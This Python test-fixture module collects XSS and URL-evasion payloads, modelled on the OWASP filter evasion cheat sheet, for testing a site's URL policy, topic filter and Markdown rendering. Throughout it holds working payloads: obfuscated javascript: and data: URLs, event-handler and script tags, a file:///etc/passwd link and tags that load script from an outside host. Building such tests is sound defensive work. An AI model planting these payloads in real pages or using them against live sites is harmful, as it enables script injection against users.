"""Hostile URL and text payloads for the tests of the URL policy, the category vocabulary and
the rendered pages, after the families of the OWASP XSS Filter Evasion Cheat Sheet
(cheatsheets/XSS_Filter_Evasion_Cheat_Sheet.md of OWASP/CheatSheetSeries): mixed case,
decimal and hexadecimal character references with and without semicolons and padding,
embedded tab, newline, carriage return and NUL, leading spaces and meta characters,
``vbscript:``, ``livescript:`` and ``data:``, protocol-relative and backslash forms, user
information before a host, and the URL-string evasions (encoded, dotted, DWORD, hex, octal
hosts). Written for our inputs: a value that lands in ``href``/``src`` (``REFUSED``, and the
http URLs in ``ALLOWED`` that a filter of the cheat sheet's kind would have refused), and
topics that would be markup in a category list (``TOPICS``).
"""

from __future__ import annotations

SCRIPT = "alert('XSS')"
# A scheme every payload below must never reach a browser as.
DANGEROUS_SCHEMES = ("javascript", "vbscript", "livescript", "data", "file", "blob", "about")

_JS = "javascript:" + SCRIPT


def _decimal(text: str, pad: int = 0, semicolon: bool = True) -> str:
    return "".join(f"&#{ord(c):0{pad}d}{';' if semicolon else ''}" for c in text)


def _hex(text: str, semicolon: bool = True, upper: bool = False) -> str:
    return "".join(f"&#{'X' if upper else 'x'}{ord(c):X}{';' if semicolon else ''}" for c in text)


REFUSED: tuple[str, ...] = (
    # the javascript: directive, plainly and in mixed case
    _JS, "JaVaScRiPt:" + SCRIPT, "JAVASCRIPT:" + SCRIPT,
    "javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/\"/+/onmouseover=1/+/[*/[]/+alert(42);//'>",
    "javascript:alert(String.fromCharCode(88,83,83))",
    "javascript:document.location='http://www.google.com/'",
    "javascript://%0aalert(1)", "javascript://example.com/%0Aalert(1)",
    "javascript:fetch('/review').then(r=>r.text())",
    # character references: decimal, padded without semicolons, hexadecimal without semicolons
    _decimal(_JS), _decimal(_JS, pad=7, semicolon=False), _hex(_JS, semicolon=False), _hex(_JS, upper=True),
    "jav&#x09;ascript:" + SCRIPT, "jav&#x0A;ascript:" + SCRIPT, "jav&#x0D;ascript:" + SCRIPT,
    "&#x6A;avascript:" + SCRIPT, "javascript&#58;" + SCRIPT, "javascript&colon;" + SCRIPT,
    # embedded tab, newline, carriage return, NUL, soft hyphen; spaces and meta characters before
    "jav\tascript:" + SCRIPT, "jav\nascript:" + SCRIPT, "jav\rascript:" + SCRIPT, "java\x00script:" + SCRIPT,
    "java\u00adscript:" + SCRIPT, " \x0e  javascript:" + SCRIPT, "\x01\x02javascript:" + SCRIPT,
    "\u00a0javascript:" + SCRIPT, "\u2028javascript:" + SCRIPT, "\ufeffjavascript:" + SCRIPT,
    "javascript\t:" + SCRIPT, "java\u200bscript:" + SCRIPT,
    # other script schemes, and data:
    "vbscript:msgbox(\"XSS\")", "VBScript:msgbox(1)", "livescript:[code]",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4K",
    "data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciPjxzY3JpcHQ+YWxlcnQoMSk8L3NjcmlwdD48L3N2Zz4=",
    "DATA:text/html,<script>alert(1)</script>", "file:///etc/passwd", "blob:https://example.com/x",
    "about:blank", "ftp://example.com/", "mailto:someone@example.com", "irc://irc.esper.net/mods",
    # protocol-relative, backslashes, relative paths and a scheme without slashes
    "//www.google.com/", "//google", "\\\\evil.example\\x", "/\\evil.example", "https:\\\\evil.example",
    "https:/\\evil.example", "http:\\/evil.example", "http:evil.example", "https:/evil.example",
    "https:///evil.example", "/review", "review", "#", "?x=1", "",
    # user information before the host (the "feeling lucky" family) and a port that is not one
    "http://ha.ckers.org@google", "https://user:pass@example.com/", "https://example.com@evil.example/",
    "https://evil.example%40example.com@evil.example", "http://google:ha.ckers.org",
    "https://example.com:99999/", "https://example.com:-1/",
    # whitespace and encodings inside the URL (the "mixed encoding" family)
    "h \ntt  p://6\t6.000146.0x7.147/", "http://%77%77%77%2E%67%6F%6F%67%6C%65%2E%63%6F%6D",
    "https://exa mple.com/", "https://example.com/a b", "https://example.com/\"onmouseover=\"alert(1)",
    "https://example.com/<script>", "https://example.com/`x`", "https://example.com/{x}",
    "https://example.com/a|b", "https://example.com/^", "https://exam\u200eple.com/",
    "https://example.com\uff0fevil.example/", "https://example\u3002com/",
    # too long
    "https://example.com/" + "a" * 2100,
)

# http(s) URLs the policy keeps: odd, but a browser reads each as the same http(s) URL.
ALLOWED: tuple[str, ...] = (
    "https://example.com/", "HTTPS://EXAMPLE.COM/", "hTtP://example.com/a?b=c#d",
    "http://66.102.7.147/", "http://1113982867/", "http://0x42.0x0000066.0x7.0x93/",
    "http://0102.0146.0007.00000223/", "http://www.google.com./", "http://www.google.com/ogle.com/",
    "https://example.com/?q=&#x6A;avascript:alert(1)", "https://example.com/#javascript:alert(1)",
    "https://medium.com/@author/post", "https://[::1]:8443/x", "https://bücher.example/",
    "https://example.com:443/", " https://example.com/trimmed\n", "https://example.com/'quoted'",
)

# Topics a webhook may carry: none may become a category, and a tag is only a plain word.
TOPICS: tuple[str, ...] = (
    "<script>alert('topic')</script>", "<img src=x onerror=alert(1)>", "\"><svg/onload=alert(1)>",
    "javascript:alert(1)", "&lt;script&gt;", "fabric", "forge", "neoforge", "quilt", "minecraft",
    "minecraft-mod", "fabric-mod", "STORAGE ", "tech", "performance", "a" * 51, "-leading-hyphen",
    "under_score", "ünïcode", "two words", "",
)


def hostile_markdown() -> str:
    """A README (or release notes) with each payload of :data:`REFUSED` wherever Markdown or its
    raw HTML can put a URL (inline link and image, reference, autolink, ``href``/``src`` quoted
    both ways and bare), then the cheat sheet's markup families (script, event handlers, frames,
    ``style``, ``meta``/``base``/``link``, ``object``/``embed``, forms, ``srcset``, the
    ``noscript``/``math``/``template`` parser confusions) and the same in code, where it is text."""
    lines = ["# Hostile", ""]
    for i, p in enumerate(REFUSED):
        q = p.replace('"', "&quot;")
        lines += [
            f"[link {i}]({p}) ![img {i}]({p}) [ref {i}][r{i}] <{p}>",
            f'<a href="{q}">a {i}</a> <img src="{q}"> <a href=\'{p}\'>b</a> <img src={p.replace(" ", "")}>',
            "", f"[r{i}]: {p}", "",
        ]
    lines += [
        "<script>alert('XSS')</script>", "<SCRIPT SRC=http://xss.rocks/xss.js></SCRIPT>",
        "<IMG SRC=\"javascript:alert('XSS');\">", "<IMG SRC=javascript:alert('XSS')>",
        "<IMG SRC=`javascript:alert(\"RSnake says, 'XSS'\")`>", "<IMG \"\"\"><SCRIPT>alert(\"XSS\")</SCRIPT>\"\\>",
        "<IMG SRC=# onmouseover=\"alert('xxs')\">", "<IMG SRC= onmouseover=\"alert('xxs')\">",
        "<IMG onmouseover=\"alert('xxs')\">", "<IMG SRC=/ onerror=\"alert(String.fromCharCode(88,83,83))\"></img>",
        "<img src=x onerror=\"&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041\">",
        "<BODY ONLOAD=alert('XSS')>", "<svg/onload=alert('XSS')>", "<<SCRIPT>alert(\"XSS\");//\\<</SCRIPT>",
        "<IFRAME SRC=\"javascript:alert('XSS');\"></IFRAME>", "<FRAMESET><FRAME SRC=\"javascript:alert('XSS');\"></FRAMESET>",
        "<TABLE BACKGROUND=\"javascript:alert('XSS')\"><TD BACKGROUND=\"javascript:alert('XSS')\">x</TD></TABLE>",
        "<DIV STYLE=\"background-image: url(javascript:alert('XSS'))\">d</DIV>",
        "<DIV STYLE=\"width: expression(alert('XSS'));\">e</DIV>", "<STYLE>@import'http://xss.rocks/xss.css';</STYLE>",
        "<META HTTP-EQUIV=\"refresh\" CONTENT=\"0;url=javascript:alert('XSS');\">",
        "<LINK REL=\"stylesheet\" HREF=\"javascript:alert('XSS');\">", "<BASE HREF=\"javascript:alert('XSS');//\">",
        "<OBJECT TYPE=\"text/x-scriptlet\" DATA=\"http://xss.rocks/scriptlet.html\"></OBJECT>",
        "<EMBED SRC=\"data:image/svg+xml;base64,PHN2ZyB4bWxuczpzdmc9Imh0dH A6Ly93d3cudzMub3JnLzIwMDAvc3ZnIiB4bWxucz0iaHR0cDovL3d3dy53My5vcmcv MjAwMC9zdmciIHhtbG5zOnhsaW5rPSJodHRwOi8vd3d3LnczLm9yZy8xOTk5L3hs aW5rIiB2ZXJzaW9uPSIxLjAiIHg9IjAiIHk9IjAiIHdpZHRoPSIxOTQiIGhlaWdodD0iMjAw IiBpZD0ieHNzIj48c2NyaXB0IHR5cGU9InRleHQvZWNtYXNjcmlwdCI+YWxlcnQoIlh TUyIpOzwvc2NyaXB0Pjwvc3ZnPg==\" AllowScriptAccess=\"always\"></EMBED>",
        "<form action=\"javascript:alert(1)\"><button formaction=\"javascript:alert(2)\">go</button><input name=q></form>",
        "<a href=\"https://example.com\" onclick=\"alert(1)\" style=\"position:fixed\" id=\"csrf\" name=\"x\">c</a>",
        "<img srcset=\"javascript:alert(1) 1x\" src=\"https://example.com/x.png\">",
        "<details open ontoggle=alert(1)><summary>s</summary>t</details>",
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">", "<!-- <img src=x onerror=alert(1)> -->",
        "<xmp><img src=x onerror=alert(1)></xmp>", "<template><script>alert(1)</script></template>",
        "<input type=\"image\" src=\"javascript:alert(1)\" onfocus=alert(1) autofocus>",
        "<video><source onerror=\"alert(1)\"></video>", "<a href=\"&#x6A;avascript:alert(1)\">entity</a>",
        "<a href=\"jav&#x09;ascript:alert(1)\">tab</a>", "<a href=\" &#14;  javascript:alert(1)\">meta</a>",
        "[md](javascript:alert&#40;1&#41;) [md2](<javascript:alert(1)>) [md3](JaVaScRiPt:alert(1))",
        "![md4](\"onerror=\"alert(1)) [md5](https://example.com/\"onmouseover=\"alert(1))",
        "<h1 onclick=alert(1)>heading</h1>", "", "`<script>alert('in code')</script>`", "",
        "```html", "<script>alert('in a fence')</script>", "```",
    ]
    return "\n".join(lines)
